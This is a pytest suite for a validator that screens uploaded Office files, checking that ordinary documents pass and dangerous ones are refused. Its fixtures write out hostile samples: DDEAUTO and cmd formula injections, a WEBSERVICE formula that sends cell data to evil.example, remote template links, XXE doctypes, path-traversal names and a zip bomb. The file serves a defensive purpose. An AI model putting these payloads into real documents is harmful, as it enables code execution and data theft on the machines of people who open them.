from __future__ import annotations

import io
import zipfile

import pytest

from community.files import endings, packages, parts
from community.files.findings import Refused
from tests.files import samples
from tests.files.samples import linking, office, word_saying

DOCTYPE = '<!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>'
TWO_RELATIONSHIPS = samples.relationships(
    samples.relationship("extended-properties", "docProps/app.xml"),
    samples.relationship("officeDocument", "/word/document.xml"),
)
BIN = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'


def refusal(content: bytes) -> str:
    with pytest.raises(Refused) as caught:
        packages.examine(content)
    return str(caught.value)


def formula(written: str) -> bytes:
    sheet = f'<worksheet xmlns="s"><sheetData><row><c><f>{written}</f></c></row></sheetData></worksheet>'
    return office("excel", parts={"xl/worksheets/sheet1.xml": sheet})


def field(*pieces: str) -> bytes:
    begin, end = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )
    runs = "".join(f"<w:r><w:instrText> {piece}</w:instrText></w:r>" for piece in pieces[:1])
    runs += "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces[1:])
    return word_saying(f"<w:p>{begin}{runs}{end}<w:r><w:t>DDE is a word too</w:t></w:r></w:p>")


@pytest.mark.parametrize(
    "content",
    [
        office(types=BIN),
        office(parts={"word/": "", "word/media/a.png": samples.image(), "customXml/item1.xml": "\ufeff<a/>"}),
        office(parts={"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")}),
        office(parts={"word/drawing1.vml": "<xml><br></xml>"}),
        office(parts={"_rels/.rels": TWO_RELATIONSHIPS}),
        linking("hyperlink", "https://example.org/"),
        linking("hyperlink", "mailto:ada@example.org"),
        linking("hyperlink", "#top"),
        linking("image", "media/a.png", "Internal"),
        field("MERGEFIELD name"),
        field('HYPERLINK "https://example.org/DDE/"'),
        word_saying('<w:fldSimple w:instr=" PAGE "/>'),
    ],
)
def test_ordinary_office_files_are_taken(content: bytes) -> None:
    assert packages.examine(content)[0]["kind"] == "word"


@pytest.mark.parametrize(
    "content",
    [
        office(parts={"word/vbaProject.bin": b"x"}),
        office(parts={"word/other.bin": b"x"}, types=BIN),
        office("excel", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        office("excel", parts={"xl/macrosheets/sheet1.xml": "<a/>"}),
        linking("../2006/relationships/vbaProject", "x.bin", "Internal"),
    ],
)
def test_macros_are_refused_wherever_they_hide(content: bytes) -> None:
    assert refusal(content) == endings.MACROS


@pytest.mark.parametrize(
    "content",
    [
        office(parts={"word/embeddings/oleObject1.bin": b"x"}),
        office("slides", parts={"ppt/embeddings/Sheet1.xlsx": b"x"}),
        office(parts={"word/media/picture.png": office()}),
        office(parts={"word/media/picture.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        office(parts={"word/activeX/activeX1.xml": "<a/>"}),
        linking("aFChunk", "part.html", "Internal"),
        linking("package", "part.xlsx", "Internal"),
    ],
)
def test_files_inside_files_are_refused(content: bytes) -> None:
    assert refusal(content) == parts.EMBEDDED


@pytest.mark.parametrize(
    "content",
    [
        linking("image", "http://127.0.0.1:9/pixel.png"),
        linking("image", "file://server/share/a.png", "external"),
        office("excel", parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        office("excel", parts={"xl/connections.xml": "<connections/>"}),
        field('INCLUDEPICTURE "http://127.0.0.1:9/a.png"'),
        field('LINK Excel.Sheet.12 "budget.xlsx" "Sheet1!R1C1" \\a'),
        field('RD "//server/share/other.docx"'),
    ],
)
def test_files_that_fetch_something_are_refused(content: bytes) -> None:
    assert refusal(content) == parts.LINKED


@pytest.mark.parametrize(
    "content",
    [
        field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
        field("DD", "EAU", "TO cmd"),
        word_saying('<w:fldSimple w:instr=" DDE cmd "/>'),
        formula("cmd|'/c calc'!A0"),
        formula('_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)'),
        formula('1+ RTD("a",,"b")'),
        formula('_xlfn.IMAGE("http://evil.example/a.png")'),
    ],
)
def test_commands_that_run_when_it_is_opened_are_refused(content: bytes) -> None:
    assert refusal(content) == parts.COMMAND


@pytest.mark.parametrize("written", ["SUM(A1:A9)", "COUNTIF(Image!A1:A9,1)", "IMAGES(1)", "recall(2)", '"a|b"&amp;A1'])
def test_a_formula_that_only_reckons_is_taken(written: str) -> None:
    assert packages.examine(formula(written))[0]["kind"] == "excel"


def test_a_template_on_another_computer_is_refused() -> None:
    assert refusal(linking("attachedTemplate", "https://evil.example/t.dotm")) == parts.TEMPLATE


@pytest.mark.parametrize("target", ["file:///C:/Users/ada/a.docx", "\\\\server\\a", "javascript:alert(1)", "//x"])
def test_links_that_do_not_lead_to_the_web_are_refused(target: str) -> None:
    assert refusal(linking("hyperlink", target)) == parts.ODD_LINK


@pytest.mark.parametrize(
    "content",
    [
        office(parts={"word/document.xml": DOCTYPE}),
        office(parts={"word/document.xml": f'<?xml version="1.0" encoding="utf-16"?>{DOCTYPE}'.encode("utf-16")}),
        office(parts={"word/_rels/document.xml.rels": DOCTYPE}),
        office(parts={"[Content_Types].xml": DOCTYPE}),
        office(parts={"word/media/picture.svg": DOCTYPE}),
        office(parts={"word/drawing1.vml": f"<xml><br></xml>{DOCTYPE}"}),
    ],
)
def test_a_doctype_is_refused_in_every_part_and_encoding(content: bytes) -> None:
    assert refusal(content) == parts.ODD_XML


@pytest.mark.parametrize(
    "content",
    [
        samples.zipped({"readme.txt": "hello"}),
        samples.zipped({"[Content_Types].xml": samples.content_types("a.xml", "a", "")}),
        office(parts={"_rels/.rels": samples.relationships()}),
        office(main_type="text/plain"),
        office(root="workbook"),
        office(parts={"_rels/.rels": samples.relationships(samples.relationship("officeDocument", "gone.xml"))}),
    ],
)
def test_a_zip_that_is_no_office_file_is_refused(content: bytes) -> None:
    assert refusal(content) == endings.NOT_OFFICE


def test_templates_and_shows_are_refused() -> None:
    kind = f"{samples.OFFICE}.wordprocessingml.template.main+xml"
    assert refusal(office(main_type=kind)) == packages.OTHER_FLAVOUR


@pytest.mark.parametrize("name", ["../evil.xml", "/abs.xml", "C:\\w.xml", "a/./b.xml", "a//b.xml", "WORD/Document.xml"])
def test_parts_with_names_that_mislead_are_refused(name: str) -> None:
    assert refusal(office(parts={name: "<a/>"})) == parts.DAMAGED


@pytest.mark.parametrize("part", ["word/document.xml", "_rels/.rels", "[Content_Types].xml"])
def test_broken_xml_is_refused(part: str) -> None:
    assert refusal(office(parts={part: "<a><b></a>"})) == parts.DAMAGED


def test_xml_in_an_encoding_nobody_has_is_refused() -> None:
    strange = b'<?xml version="1.0" encoding="klingon"?><a/>'
    assert refusal(office(parts={"word/document.xml": strange})) == parts.DAMAGED


def test_an_archive_that_swells_is_refused_and_a_small_one_may_be_dense() -> None:
    bomb = {"word/document.xml": "<document>" + " " * (packages.RATIO_COUNTS_FROM + 1) + "</document>"}
    assert refusal(office(parts=bomb)) == packages.SWOLLEN
    small = {"word/document.xml": "<document>" + " " * 2**20 + "</document>"}
    assert packages.examine(office(parts=small))[0]["ending"] == ".docx"


def test_two_thousand_parts_are_the_limit() -> None:
    most = {f"word/media/{number}.txt": "" for number in range(packages.MAX_ENTRIES - 3)}
    assert packages.examine(office(parts=most))[0]["ending"] == ".docx"
    assert refusal(office(parts={**most, "word/media/more.txt": ""})) == packages.SWOLLEN


@pytest.mark.parametrize("said", [500, 5000])
def test_a_part_that_lies_about_its_size_is_refused(said: int) -> None:
    content = bytearray(office(parts={"word/media/a.txt": "a" * 1000}))
    entry = content.rindex(b"word/media/a.txt") - 46
    content[entry + 24 : entry + 28] = said.to_bytes(4, "little")
    assert refusal(bytes(content)) == parts.DAMAGED


def test_locked_parts_are_refused() -> None:
    content = bytearray(office())
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert refusal(bytes(content)) == endings.LOCKED


def test_symbolic_links_are_refused() -> None:
    target = io.BytesIO(office())
    with zipfile.ZipFile(target, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert refusal(target.getvalue()) == parts.DAMAGED


def test_ways_of_packing_that_office_does_not_know_are_refused() -> None:
    assert refusal(samples.zipped({"a.xml": "<a/>"}, zipfile.ZIP_LZMA)) == parts.DAMAGED


@pytest.mark.parametrize("share", [0.2, 0.5, 0.9])
def test_half_a_file_is_refused(share: float) -> None:
    content = office()
    assert refusal(content[: int(len(content) * share)]) == parts.DAMAGED
